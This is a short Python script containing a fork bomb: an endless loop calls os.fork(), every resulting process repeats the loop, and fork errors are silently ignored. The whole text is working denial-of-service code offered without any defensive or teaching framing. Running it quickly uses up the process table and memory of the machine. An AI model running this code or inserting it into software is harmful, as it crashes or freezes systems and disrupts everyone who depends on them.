# Forks as fast as it can; each child goes on.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
